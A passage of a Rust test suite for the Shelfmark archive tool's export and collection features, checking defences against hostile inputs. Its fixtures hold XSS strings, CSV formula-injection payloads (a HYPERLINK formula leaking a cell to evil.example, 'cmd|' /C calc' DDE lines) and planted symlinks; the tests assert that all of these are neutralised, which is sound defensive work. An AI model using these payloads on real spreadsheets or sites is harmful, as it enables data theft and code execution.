                    // Stable: the same names as the first run, and again into the same folder
                    // nothing changes.
                    let first =
                        read_manifest(&tmp.path().join(format!("run-{li}-{format}-0")).join("out"));
                    assert_eq!(rows, first, "{what}: the names changed between runs");
                    let before = snapshot(&out, &[]);
                    let again = export(
                        &dir,
                        &out,
                        &["--query", "", "--layout", layout, "--format", format],
                    );
                    assert_eq!(again["unchanged"], posts as u64, "{}", brief(&again));
                    let diff = differences(&before, &snapshot(&out, &[]));
                    let expected_diff: Vec<String> = diff
                        .iter()
                        .filter(|d| {
                            ["manifest.csv", "manifest.jsonl", "index.html"].contains(&d.as_str())
                        })
                        .cloned()
                        .collect();
                    assert_eq!(diff, expected_diff, "{what}: files touched again");
                }
            }
        }
    }
    // The same posts listed in another order (a collection, reversed) get the same names.
    let mut paths: Vec<String> = json(&dir, &["search", "--limit", "1000", "--sort", "path", ""])
        ["hits"]
        .as_array()
        .expect("hits")
        .iter()
        .map(|h| h["path"].as_str().unwrap_or("").to_string())
        .collect();
    paths.reverse();
    // (Paths that are not UTF-8 are left out: the hits hold them lossily.)
    let utf8: Vec<&str> = paths
        .iter()
        .filter(|p| dir.join(p).exists())
        .map(String::as_str)
        .collect();
    let mut args = vec!["collection", "create", "reversed"];
    args.extend(&utf8);
    let c = json(&dir, &args);
    assert_eq!(c["count"], utf8.len() as u64, "{c}");
    let out_c = tmp.path().join("by-collection");
    let s = export(
        &dir,
        &out_c,
        &[
            "--collection",
            "reversed",
            "--layout",
            "template:{title}.md",
        ],
    );
    assert_clean(&s, utf8.len());
    let by_query: BTreeMap<String, String> =
        read_manifest(&tmp.path().join("run-7-copy-0").join("out"))
            .into_iter()
            .map(|r| (r.source, r.exported))
            .collect();
    // (The posts left out have titles of their own, so the names of the rest are the same.)
    let differ: Vec<(String, String)> = read_manifest(&out_c)
        .into_iter()
        .filter(|r| by_query.get(&r.source) != Some(&r.exported))
        .map(|r| (r.source, r.exported))
        .collect();
    assert!(differ.is_empty(), "names depend on the order: {differ:?}");

    // The archive itself is untouched (but for its .shelfmark folder).
    assert_eq!(
        differences(&archive_before, &snapshot(&dir, &[".shelfmark"])),
        Vec::<String>::new()
    );
    // And nothing anywhere above the runs: the temporary folder holds the archive and the runs.
    let top = entries(tmp.path());
    assert!(
        top.iter()
            .all(|e| e == b"archive" || e.starts_with(b"run-") || e.as_slice() == b"by-collection"),
        "{:?}",
        top.iter().map(|e| text(e)).collect::<Vec<_>>()
    );
    assert!(!Path::new("/tmp/escaped.md").exists());
    eprintln!("{runs} hostile exports checked");
}

#[test]
fn hostile_html_runs_nothing_and_loads_nothing() {
    let f = Fixture::new(&[
        (
            "a.md",
            &hostile_post("{UP}", Some("2021-01-01"), "", HOSTILE_BODY),
        ),
        (
            "b/c/d.md",
            &hostile_post(
                "<img src=https://t.example/t.gif onerror=alert(1)>",
                None,
                "",
                HOSTILE_BODY,
            ),
        ),
        ("e.md", b"no front matter <script>alert(1)</script>\n"),
    ]);
    index(f.path());
    let out = tempfile::tempdir().expect("temp dir");
    for layout in ["keep", "template:{title}/{title}/{title}.md"] {
        let target = out.path().join(layout.len().to_string());
        let s = export(
            f.path(),
            &target,
            &["--query", "", "--layout", layout, "--format", "html"],
        );
        assert_clean(&s, 3);
        check_folder(f.path(), &target, 3, Format::Html, layout);
        let page = std::fs::read_to_string(target.join("index.html")).expect("index");
        assert!(!page.contains("<img"), "{page}");
    }
}

// ---------------------------------------------------------------------------------------------
// The user's files, and the archive
// ---------------------------------------------------------------------------------------------

#[test]
fn files_the_user_put_there_are_never_overwritten_without_overwrite() {
    let f = news_archive();
    index(f.path());
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = tmp.path().join("out");
    let theirs = "_posts/2021-03-05-vaccine.md";
    std::fs::create_dir_all(out.join("_posts")).expect("mkdir");
    std::fs::write(out.join(theirs), "mine").expect("write");
    std::fs::write(out.join("notes.txt"), "my notes").expect("write");

    // A dry run plans and writes nothing.
    let dry = tmp.path().join("dry");
    let s = export(f.path(), &dry, &["--query", "", "--dry-run"]);
    assert_eq!(s["posts"], 6);
    assert_eq!(list_len(&s["preview"]), 6);
    assert!(!dry.exists(), "the dry run created the target");

    let s = export(f.path(), &out, &["--query", ""]);
    assert_eq!(s["written"], 5, "{}", brief(&s));
    assert_eq!(s["conflicts"][0]["path"], theirs, "{}", brief(&s));
    assert_eq!(list_len(&s["conflicts"]), 1);
    assert_eq!(
        std::fs::read_to_string(out.join(theirs)).ok().as_deref(),
        Some("mine")
    );
    assert_eq!(
        std::fs::read_to_string(out.join("notes.txt"))
            .ok()
            .as_deref(),
        Some("my notes")
    );
    // The manifest lists what the export holds: the user's file is not one of its files.
    let rows = read_manifest(&out);
    let (files, _) = walk(&out);
    for r in &rows {
        assert_eq!(
            files
                .get(&r.exported)
                .map(|p| sha256_hex(&read(p)))
                .as_deref(),
            Some(r.sha256.as_str()),
            "the manifest's sha256 of {} is not the file's",
            r.exported
        );
    }
    // Again: still not replaced.
    let s = export(f.path(), &out, &["--query", ""]);
    assert_eq!(list_len(&s["conflicts"]), 1, "{}", brief(&s));
    assert_eq!(
        std::fs::read_to_string(out.join(theirs)).ok().as_deref(),
        Some("mine")
    );

    // A file the last export wrote and the user changed since is theirs now, too.
    let edited = "_posts/2021-01-11-两岸关系.md";
    std::fs::write(out.join(edited), "my version").expect("write");
    json(f.path(), &["tag", "add", "新", edited]);
    let s = export(f.path(), &out, &["--query", ""]);
    let mut conflicts: Vec<&str> = s["conflicts"]
        .as_array()
        .expect("conflicts")
        .iter()
        .filter_map(|c| c["path"].as_str())
        .collect();
    conflicts.sort();
    assert_eq!(conflicts, [edited, theirs], "{}", brief(&s));
    assert_eq!(
        std::fs::read_to_string(out.join(edited)).ok().as_deref(),
        Some("my version")
    );

    // With --overwrite, they are replaced (and nothing else is touched).
    let s = export(f.path(), &out, &["--query", "", "--overwrite"]);
    assert_eq!(s["updated"], 2, "{}", brief(&s));
    assert_clean(&s, 6);
    assert_eq!(read(&out.join(theirs)), read(&f.file(theirs)));
    assert_eq!(read(&out.join(edited)), read(&f.file(edited)));
    assert_eq!(
        std::fs::read_to_string(out.join("notes.txt"))
            .ok()
            .as_deref(),
        Some("my notes")
    );

    // A zip that exists is not replaced either, unless asked.
    let zip = tmp.path().join("z.zip");
    std::fs::write(&zip, "my zip").expect("write");
    let err = fails(
        f.path(),
        &["export", "--query", "", "--zip", "--to", p(&zip)],
    );
    assert!(err.contains("exists"), "{err}");
    assert_eq!(
        std::fs::read_to_string(&zip).ok().as_deref(),
        Some("my zip")
    );
    let s = export(f.path(), &zip, &["--query", "", "--zip", "--overwrite"]);
    assert_eq!(s["written"], 6);
    assert_eq!(zip_entries(&zip).len(), 8);
}

#[test]
fn delete_removed_deletes_only_untouched_files_of_the_last_export() {
    let f = news_archive();
    index(f.path());
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = tmp.path().join("out");
    std::fs::create_dir_all(&out).expect("mkdir");
    std::fs::write(out.join("notes.txt"), "my notes").expect("write");
    let s = export(f.path(), &out, &["--query", "tag:联合早报"]);
    assert_eq!(s["written"], 2, "{}", brief(&s));
    let first: Vec<String> = read_manifest(&out)
        .into_iter()
        .map(|r| r.exported)
        .collect();
    assert_eq!(first.len(), 2);
    // The user changes one of them.
    std::fs::write(out.join(&first[1]), "changed by me").expect("write");

    // Another query: the two are reported, nothing deleted.
    let s = export(f.path(), &out, &["--query", "vaccine"]);
    assert_eq!(s["written"], 1, "{}", brief(&s));
    let removed: Vec<&str> = s["removed"]
        .as_array()
        .expect("removed")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(removed, first, "{}", brief(&s));
    assert_eq!(s["deleted"], 0);
    assert!(out.join(&first[0]).exists() && out.join(&first[1]).exists());

    // Back to the first set, then to the other one with --delete-removed: only the untouched
    // file of the last export goes.
    let s = export(f.path(), &out, &["--query", "tag:联合早报"]);
    assert_eq!(
        list_len(&s["conflicts"]),
        1,
        "the changed file is the user's: {}",
        brief(&s)
    );
    let s = export(f.path(), &out, &["--query", "vaccine", "--delete-removed"]);
    assert_eq!(s["deleted"], 1, "{}", brief(&s));
    assert!(!out.join(&first[0]).exists(), "the untouched file stays");
    assert_eq!(
        std::fs::read_to_string(out.join(&first[1])).ok().as_deref(),
        Some("changed by me")
    );
    assert_eq!(
        std::fs::read_to_string(out.join("notes.txt"))
            .ok()
            .as_deref(),
        Some("my notes")
    );
    let (files, _) = walk(&out);
    let mut names: Vec<&str> = files.keys().map(String::as_str).collect();
    names.sort();
    assert_eq!(
        names,
        [
            "_posts/2021-03-05-vaccine.md",
            first[1].as_str(),
            "manifest.csv",
            "manifest.jsonl",
            "notes.txt"
        ]
    );
}

#[test]
fn exporting_into_the_archive_is_refused() {
    let f = news_archive();
    index(f.path());
    let before = snapshot(f.path(), &[".shelfmark"]);
    let outside = tempfile::tempdir().expect("temp dir");
    let link = outside.path().join("link-to-archive");
    std::os::unix::fs::symlink(f.path(), &link).expect("symlink");
    let archive = f.path().to_path_buf();
    for (to, zip) in [
        (archive.clone(), false),
        (archive.join("_posts"), false),
        (archive.join("new/deeper"), false),
        (archive.join(".shelfmark/x"), false),
        (link.clone(), false),
        (link.join("sub"), false),
        (archive.join("x.zip"), true),
        (link.join("y.zip"), true),
    ] {
        let mut args = vec!["export", "--query", "", "--to", p(&to)];
        if zip {
            args.push("--zip");
        }
        let err = fails(f.path(), &args);
        assert!(
            err.contains("inside the archive"),
            "{}: {err}",
            to.display()
        );
        // Not even with --overwrite.
        args.push("--overwrite");
        fails(f.path(), &args);
    }
    assert!(!archive.join("new").exists());
    assert_eq!(
        differences(&before, &snapshot(f.path(), &[".shelfmark"])),
        Vec::<String>::new()
    );

    // A target that holds the archive: no exported file may land inside the archive, whatever
    // the layout says, not even with --overwrite.
    let outer = tempfile::tempdir().expect("temp dir");
    let archive = outer.path().join("arch");
    copy_writable(f.path(), &archive);
    std::fs::remove_dir_all(archive.join(".shelfmark")).expect("rm");
    index(&archive);
    let before = snapshot(&archive, &[".shelfmark"]);
    for extra in [&[][..], &["--overwrite"][..]] {
        for (layout, set) in [
            ("template:arch/_posts/{filename}", &["--set", "x=1"][..]),
            ("template:arch/new/{filename}", &[][..]),
        ] {
            let mut args = vec![
                "export",
                "--query",
                "",
                "--to",
                p(outer.path()),
                "--layout",
                layout,
            ];
            args.extend(set);
            args.extend(extra);
            let _ = sm(&archive, &args);
        }
    }
    assert_eq!(
        differences(&before, &snapshot(&archive, &[".shelfmark"])),
        Vec::<String>::new(),
        "an export into the folder that holds the archive wrote into the archive"
    );
}

#[test]
fn symlinks_in_the_target_are_not_written_through() {
    let f = news_archive();
    index(f.path());
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = tmp.path().join("out");
    let elsewhere = tmp.path().join("elsewhere");
    std::fs::create_dir_all(&out).expect("mkdir");
    std::fs::create_dir_all(&elsewhere).expect("mkdir");
    std::os::unix::fs::symlink(&elsewhere, out.join("_posts")).expect("symlink");
    std::os::unix::fs::symlink(tmp.path().join("victim.md"), out.join("archived"))
        .expect("symlink");
    let out_args = ["export", "--query", "", "--to", p(&out), "--json"];
    let o = sm(f.path(), &out_args);
    let s: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert_eq!(
        list_len(&s["problems"]),
        6,
        "every post goes through a symlink: {}",
        brief(&s)
    );
    assert!(
        entries(&elsewhere).is_empty(),
        "written through the symlink"
    );
    assert!(!tmp.path().join("victim.md").exists());
}

// ---------------------------------------------------------------------------------------------
// Collections
// ---------------------------------------------------------------------------------------------

fn show(dir: &Path, name: &str) -> (Vec<String>, Vec<String>) {
    let v = json(dir, &["collection", "show", name]);
    let list = |k: &str| {
        v[k].as_array()
            .expect("a list")
            .iter()
            .map(|p| p.as_str().unwrap_or("").to_string())
            .collect()
    };
    (list("paths"), list("missing"))
}

fn collection_file(dir: &Path, id: &str) -> Value {
    let path = dir
        .join(".shelfmark/collections")
        .join(format!("{id}.json"));
    serde_json::from_slice(&read(&path)).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
fn collections_through_the_cli() {
    let f = news_archive();
    index(f.path());
    let dir = f.path();
    let vaccine = "_posts/2021-03-05-vaccine.md";
    let yimiao = "archived/2021-06-01/2021-06-01-疫苗.md";
    let liangan = "_posts/2021-01-11-两岸关系.md";

    // Manual from a query, manual from paths (in the user's order), smart.
    let c = json(
        dir,
        &["collection", "create", "Cross-strait", "--query", "两岸"],
    );
    assert_eq!(c["kind"], "manual", "{c}");
    assert_eq!(c["count"], search_paths(dir, "两岸").len() as u64, "{c}");
    assert_eq!(c["count"], 2, "{c}");
    let c = json(
        dir,
        &["collection", "create", "Picked", vaccine, yimiao, liangan],
    );
    assert_eq!(
        (c["kind"].as_str(), c["count"].as_u64()),
        (Some("manual"), Some(3))
    );
    let c = json(
        dir,
        &["collection", "create", "Zaobao", "--smart", "tag:联合早报"],
    );
    assert_eq!(c["kind"], "smart", "{c}");
    assert_eq!(c["count"], search_paths(dir, "tag:联合早报").len() as u64);
    fails(dir, &["collection", "create", "picked"]);
    fails(dir, &["collection", "add", "Zaobao", vaccine]);
    fails(dir, &["collection", "add", "Picked", "no/such/post.md"]);

    let list = json(dir, &["collection", "list"]);
    let counts: Vec<(String, u64)> = list
        .as_array()
        .expect("a list")
        .iter()
        .map(|c| {
            (
                c["name"].as_str().unwrap_or("").to_string(),
                c["count"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(
        counts,
        [
            ("Cross-strait".to_string(), 2),
            ("Picked".to_string(), 3),
            ("Zaobao".to_string(), 2)
        ]
    );
    assert_eq!(show(dir, "Picked").0, [vaccine, yimiao, liangan]);

    // The file is plain JSON, readable without Shelfmark.
    let id = list[1]["id"].as_str().expect("id").to_string();
    let file = collection_file(dir, &id);
    assert_eq!(file["name"], "Picked");
    assert_eq!(file["kind"], "manual");
    let members: Vec<&str> = file["posts"]
        .as_array()
        .expect("posts")
        .iter()
        .map(|m| m["path"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(members, [vaccine, yimiao, liangan]);
    assert!(file["posts"]
        .as_array()
        .expect("posts")
        .iter()
        .all(|m| m["hash"]
            .as_str()
            .is_some_and(|h| h.len() == 64 && h.bytes().all(|b| b.is_ascii_hexdigit()))));
    let smart = collection_file(dir, list[2]["id"].as_str().expect("id"));
    assert_eq!(smart["query"], "tag:联合早报");

    // A member renamed and moved on disk is still a member after `index`: show lists its new
    // path, and the file follows.
    let moved = "elsewhere/deeper/renamed vaccine.md";
    std::fs::create_dir_all(f.file("elsewhere/deeper")).expect("mkdir");
    std::fs::rename(f.file(vaccine), f.file(moved)).expect("mv");
    let s = index(dir);
    assert_eq!(s["renamed"], 1, "{s}");
    let (paths, missing) = show(dir, "Picked");
    assert_eq!(paths, [moved, yimiao, liangan]);
    assert!(missing.is_empty(), "{missing:?}");
    assert_eq!(collection_file(dir, &id)["posts"][0]["path"], moved);

    // Edited by Shelfmark: still a member, by path.
    json(dir, &["tag", "add", "精选", yimiao]);
    assert_eq!(show(dir, "Picked").0, [moved, yimiao, liangan]);

    // Add by query (appended, no duplicates), remove, rename.
    let c = json(
        dir,
        &["collection", "add", "Picked", "--query", "tag:科技 OR 两岸"],
    );
    assert_eq!(c["count"], 5, "{c}");
    let c = json(dir, &["collection", "remove", "Picked", yimiao]);
    assert_eq!(c["count"], 4, "{c}");
    let c = json(dir, &["collection", "rename", "Picked", "Best of"]);
    assert_eq!(
        (c["name"].as_str(), c["count"].as_u64()),
        (Some("Best of"), Some(4))
    );
    let (paths, _) = show(dir, "best of");
    assert_eq!(paths.len(), 4);
    assert_eq!(paths[..2], [moved, liangan]);

    // Collections survive an index rebuild.
    for e in std::fs::read_dir(dir.join(".shelfmark"))
        .expect("read_dir")
        .flatten()
    {
        if e.file_name().to_string_lossy().starts_with("index.sqlite") {
            std::fs::remove_file(e.path()).expect("rm");
        }
    }
    index(dir);
    assert_eq!(show(dir, "Best of").0, paths);

    // Export a collection: its posts, as copies, with a manifest; and a smart one.
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = tmp.path().join("best");
    let s = export(
        dir,
        &out,
        &["--collection", "Best of", "--layout", "jekyll"],
    );
    assert_clean(&s, 4);
    let rows = check_folder(dir, &out, 4, Format::Copy, "collection");
    let mut sources: Vec<String> = rows.into_iter().map(|r| r.source).collect();
    sources.sort();
    let mut want = paths.clone();
    want.sort();
    assert_eq!(sources, want);
    let out = tmp.path().join("smart");
    let s = export(dir, &out, &["--collection", "zaobao", "--format", "html"]);
    assert_clean(&s, 2);
    check_folder(dir, &out, 2, Format::Html, "smart collection");

    // Delete: the collection goes, its posts stay.
    let d = json(dir, &["collection", "delete", "Best of"]);
    assert_eq!(d["deleted"], "Best of");
    let names: Vec<String> = json(dir, &["collection", "list"])
        .as_array()
        .expect("list")
        .iter()
        .map(|c| c["name"].as_str().unwrap_or("").to_string())
        .collect();
    assert_eq!(names, ["Cross-strait", "Zaobao"]);
    assert!(!dir
        .join(".shelfmark/collections")
        .join(format!("{id}.json"))
        .exists());
    assert!(f.file(moved).exists() && f.file(liangan).exists());
    fails(
        dir,
        &[
            "export",
            "--collection",
            "Best of",
            "--to",
            p(&tmp.path().join("x")),
        ],
    );
}

/// A member edited by Shelfmark and then moved (before anything looked at the collection) is
/// still found: its hash in the collection follows Shelfmark's own edits.
#[test]
fn a_member_edited_then_moved_stays_in_its_collection() {
    let f = news_archive();
    index(f.path());
    let dir = f.path();
    let vaccine = "_posts/2021-03-05-vaccine.md";
    json(dir, &["collection", "create", "One", vaccine]);
    json(dir, &["tag", "add", "精选", vaccine]);
    let moved = "moved/vaccine.md";
    std::fs::create_dir_all(f.file("moved")).expect("mkdir");
    std::fs::rename(f.file(vaccine), f.file(moved)).expect("mv");
    index(dir);
    let (paths, missing) = show(dir, "One");
    assert_eq!((paths, missing), (vec![moved.to_string()], vec![]));
}

// ---------------------------------------------------------------------------------------------
// Hostile targets (issue 10, finding 7): every file an export writes follows the conflict rule,
// temporary files are never written through a symlink, and the CSV holds no formula.
// ---------------------------------------------------------------------------------------------

/// The paths of a summary's conflicts, sorted.
fn conflict_paths(s: &Value) -> Vec<String> {
    let mut v: Vec<String> = s["conflicts"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|c| c["path"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

#[test]
fn the_users_index_and_manifests_are_kept_without_overwrite() {
    let f = news_archive();
    index(f.path());
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = tmp.path().join("out");
    std::fs::create_dir_all(&out).expect("mkdir");
    let mine: [(&str, &str); 3] = [
        ("index.html", "<p>my own index</p>\n"),
        ("manifest.csv", "my,own,csv\n1,2,3\n"),
        ("manifest.jsonl", "{\"my\": \"own jsonl\"}\n"),
    ];
    for (name, text) in mine {
        std::fs::write(out.join(name), text).expect("write");
    }
    let want: Vec<String> = mine.iter().map(|(n, _)| n.to_string()).collect();
    let unchanged = |what: &str| {
        for (name, text) in mine {
            assert_eq!(
                std::fs::read_to_string(out.join(name)).ok().as_deref(),
                Some(text),
                "{what}: the user's {name} was replaced"
            );
        }
    };
    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
    assert_eq!(conflict_paths(&s), want, "{}", brief(&s));
    assert_eq!(s["written"], 6, "{}", brief(&s));
    unchanged("first export");
    // Again: still the user's.
    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
    assert_eq!(conflict_paths(&s), want, "{}", brief(&s));
    unchanged("second export");
    // A copy export keeps them too (it writes no index.html at all).
    let copies = tmp.path().join("copies");
    std::fs::create_dir_all(&copies).expect("mkdir");
    for (name, text) in &mine[1..] {
        std::fs::write(copies.join(name), text).expect("write");
    }
    let s = export(f.path(), &copies, &["--query", ""]);
    assert_eq!(conflict_paths(&s), want[1..].to_vec(), "{}", brief(&s));
    // With --overwrite they are replaced; from then on they are the export's own, and a
    // re-export updates them without --overwrite.
    let s = export(
        f.path(),
        &out,
        &["--query", "", "--format", "html", "--overwrite"],
    );
    assert_clean(&s, 6);
    check_folder(f.path(), &out, 6, Format::Html, "after --overwrite");
    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
    assert_clean(&s, 6);
    assert_eq!(s["unchanged"], 6, "{}", brief(&s));
    json(
        f.path(),
        &["tag", "add", "新", "_posts/2021-03-05-vaccine.md"],
    );
    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
    assert_clean(&s, 6);
    assert_eq!(s["updated"], 1, "{}", brief(&s));
    check_folder(f.path(), &out, 6, Format::Html, "re-export");
    // A manifest the user edited is theirs: kept, and no longer trusted to say which files the
    // export wrote.
    let jsonl = read(&out.join("manifest.jsonl"));
    let mut edited = jsonl.clone();
    edited.extend_from_slice(b"{\"note\": \"mine\"}\n");
    std::fs::write(out.join("manifest.jsonl"), &edited).expect("write");
    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
    assert_eq!(conflict_paths(&s), ["manifest.jsonl"], "{}", brief(&s));
    assert_eq!(read(&out.join("manifest.jsonl")), edited);
}

/// Entries of `dir` whose name holds `shelfmark` (temporary files left behind).
fn leftovers(dir: &Path) -> Vec<String> {
    entries(dir)
        .into_iter()
        .map(|n| text(&n))
        .filter(|n| n.contains("shelfmark") || n.ends_with(".tmp"))
        .collect()
}

/// An indexed news archive, and a folder `out` with a file `victim.txt` beside it.
fn zip_setup() -> (Fixture, tempfile::TempDir, PathBuf, PathBuf) {
    let f = news_archive();
    index(f.path());
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = tmp.path().join("out");
    std::fs::create_dir_all(&out).expect("mkdir");
    let victim = tmp.path().join("victim.txt");
    std::fs::write(&victim, "victim").expect("write");
    (f, tmp, out, victim)
}

#[test]
fn the_zip_is_not_written_through_a_symlink_at_its_old_temporary_name() {
    let (f, _tmp, out, victim) = zip_setup();
    // A symlink where the zip's temporary file used to go (a fixed name).
    let planted = out.join(".z.zip.shelfmark.tmp");
    std::os::unix::fs::symlink(&victim, &planted).expect("symlink");
    let zip = out.join("z.zip");
    let s = export(f.path(), &zip, &["--query", "", "--zip"]);
    assert_eq!(s["written"], 6, "{}", brief(&s));
    assert_eq!(
        text(&read(&victim)).get(..6),
        Some("victim"),
        "written through the planted symlink"
    );
    assert!(
        std::fs::symlink_metadata(&zip).is_ok_and(|m| m.file_type().is_file()),
        "the zip is not a plain file"
    );
    assert_eq!(zip_entries(&zip).len(), 8);
    assert!(
        std::fs::symlink_metadata(&planted).is_ok_and(|m| m.file_type().is_symlink()),
        "the planted symlink was moved"
    );
    assert_eq!(leftovers(&out), [".z.zip.shelfmark.tmp"]);
}

#[test]
fn a_zip_target_that_is_a_symlink_is_refused() {
    // A symlink to a file, or dangling: refused, even with --overwrite.
    let (f, tmp, out, victim) = zip_setup();
    let absent = tmp.path().join("absent.zip");
    for (name, to) in [("y.zip", &victim), ("d.zip", &absent)] {
        let link = out.join(name);
        std::os::unix::fs::symlink(to, &link).expect("symlink");
        for extra in [&[][..], &["--overwrite"][..]] {
            let mut args = vec!["export", "--query", "", "--zip", "--to", p(&link)];
            args.extend(extra);
            let err = fails(f.path(), &args);
            assert!(err.contains("symlink"), "{name} {extra:?}: {err}");
            assert!(
                std::fs::symlink_metadata(&link).is_ok_and(|m| m.file_type().is_symlink()),
                "{name} {extra:?}: the symlink was replaced"
            );
        }
    }
    assert_eq!(
        text(&read(&victim)).get(..6),
        Some("victim"),
        "written through the target symlink"
    );
    assert!(!absent.exists(), "written through the dangling symlink");
    assert_eq!(leftovers(&out), Vec::<String>::new());
}

#[test]
fn manifest_csv_cells_are_never_formulas_and_the_jsonl_keeps_exact_values() {
    let titles = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1,\"2\";=3",
        "plain title",
    ];
    let names = [
        "=SUM(1+1).md",
        "+1.md",
        "-x.md",
        "@x.md",
        "\tx.md",
        "\rx.md",
        "plain.md",
    ];
    let mut files: Vec<(String, Vec<u8>)> = Vec::new();
    for (i, t) in titles.iter().enumerate() {
        files.push((
            format!("_posts/t{i}.md"),
            hostile_post(t, Some("2021-01-02"), "", "<p>x</p>"),
        ));
    }
    for (i, n) in names.iter().enumerate() {
        files.push((
            n.to_string(),
            hostile_post(&format!("named {i}"), None, "", "<p>y</p>"),
        ));
    }
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, b)| (n.as_str(), &b[..])).collect();
    let f = Fixture::new(&refs);
    index(f.path());
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = tmp.path().join("out");
    let s = export(f.path(), &out, &["--query", ""]);
    assert_clean(&s, files.len());

    // The JSONL, parsed on its own, holds the exact values.
    let jsonl = text(&read(&out.join("manifest.jsonl")));
    let json_rows: Vec<Vec<String>> = jsonl
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}"));
            ["source", "exported", "title", "date", "sha256"]
                .iter()
                .map(|k| v[k].as_str().unwrap_or("").to_string())
                .collect()
        })
        .collect();
    let sources: BTreeSet<&str> = json_rows.iter().map(|r| r[0].as_str()).collect();
    let want: BTreeSet<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(sources, want);
    let got_titles: BTreeSet<&str> = json_rows.iter().map(|r| r[2].as_str()).collect();
    for t in titles {
        assert!(got_titles.contains(t), "{t:?} not exact in the JSONL");
    }

    // The CSV, parsed on its own: no cell begins like a formula, and each is its JSONL value
    // with OWASP's `'` where needed.
    let csv = parse_csv(&text(&read(&out.join("manifest.csv"))));
    assert_eq!(csv.len(), json_rows.len() + 1);
    let mut neutralized = 0;
    for (c, j) in csv[1..].iter().zip(&json_rows) {
        for (cell, value) in c.iter().zip(j) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a CSV cell begins like a formula: {cell:?}"
            );
            assert_eq!(cell, &neutral(value));
            neutralized += usize::from(cell != value);
        }
    }
    // Five titles, six names (as source and, mostly, as exported path).
    assert!(neutralized >= 5 + 6, "{neutralized} cells neutralized");
    read_manifest(&out);
}

#[test]
fn posts_with_names_of_240_to_255_bytes_export_byte_identical() {
    // 3-byte characters: 79 make a 240-byte name with `.md`, 84 a 255-byte one.
    let files: Vec<(String, Vec<u8>)> = [79, 80, 81, 82, 83, 84]
        .iter()
        .map(|&k| {
            let name = format!("{}.md", "中".repeat(k));
            assert!((240..=255).contains(&name.len()), "{}", name.len());
            let dir = if k % 2 == 0 { "长/" } else { "" };
            (
                format!("{dir}{name}"),
                hostile_post(&format!("long {k}"), Some("2021-05-06"), "", "<p>中</p>"),
            )
        })
        .collect();
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, b)| (n.as_str(), &b[..])).collect();
    let f = Fixture::new(&refs);
    let s = index(f.path());
    assert_eq!(s["indexed"], files.len() as u64, "{s}");
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = tmp.path().join("out");
    let s = export(f.path(), &out, &["--query", ""]);
    assert_clean(&s, files.len());
    check_folder(f.path(), &out, files.len(), Format::Copy, "long names");
    let rows = read_manifest(&out);
    let by_source: HashMap<&str, &str> = rows
        .iter()
        .map(|r| (r.source.as_str(), r.exported.as_str()))
        .collect();
    for (name, bytes) in &files {
        let exported = by_source
            .get(name.as_str())
            .unwrap_or_else(|| panic!("{name} not exported"));
        assert_eq!(&read(&out.join(exported)), bytes, "{name}");
    }
    // Again, into the same folder: all unchanged.
    let s = export(f.path(), &out, &["--query", ""]);
    assert_clean(&s, files.len());
    assert_eq!(s["unchanged"], files.len() as u64, "{}", brief(&s));
    // Rewritten copies (a temporary beside each) and a zip.
    let rw = tmp.path().join("rw");
    let s = export(f.path(), &rw, &["--query", "", "--set", "x=1"]);
    assert_clean(&s, files.len());
    let zip = tmp.path().join("long.zip");
    let s = export(f.path(), &zip, &["--query", "", "--zip"]);
    assert_eq!(s["written"], files.len() as u64, "{}", brief(&s));
    let entries = zip_entries(&zip);
    let rows = manifest_rows(&entries["manifest.jsonl"], &entries["manifest.csv"]);
    assert_eq!(rows.len(), files.len());
    for (name, bytes) in &files {
        let r = rows
            .iter()
            .find(|r| &r.source == name)
            .unwrap_or_else(|| panic!("{name} not in the zip's manifest"));
        assert_eq!(entries.get(&r.exported), Some(bytes), "{name} in the zip");
    }
}

/// A collection's HTML edition through the CLI: its `index.html` is titled with the collection's
/// name and listed with the manifests; posts the layout renames count as renamed, apart from
/// those renamed to be portable; the text summary says both.
#[test]
fn a_collections_html_edition_is_titled_and_layout_renames_are_counted() {
    let f = news_archive();
    index(f.path());
    let dir = f.path();
    let vaccine = "_posts/2021-03-05-vaccine.md";
    let liangan = "_posts/2021-01-11-两岸关系.md";
    json(
        dir,
        &["collection", "create", "Picks & <more>", vaccine, liangan],
    );
    let out = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let to = out.path().join("edition");
    let s = export(
        dir,
        &to,
        &[
            "--collection",
            "Picks & <more>",
            "--format",
            "html",
            "--layout",
            "by-month",
        ],
    );
    assert_clean(&s, 2);
    assert_eq!(s["renamed"], 2, "{}", brief(&s));
    assert_eq!(s["portable"], 0, "{}", brief(&s));
    assert_eq!(
        s["extras"],
        serde_json::json!(["index.html", "manifest.csv", "manifest.jsonl"]),
        "{}",
        brief(&s)
    );
    let index_html = String::from_utf8_lossy(&read(&to.join("index.html"))).into_owned();
    assert!(
        index_html.contains("<title>Picks &amp; &lt;more&gt;</title>"),
        "{index_html}"
    );
    // The text summary: renamed, and of them for portability; the files besides the posts.
    let text = ok(
        dir,
        &[
            "export",
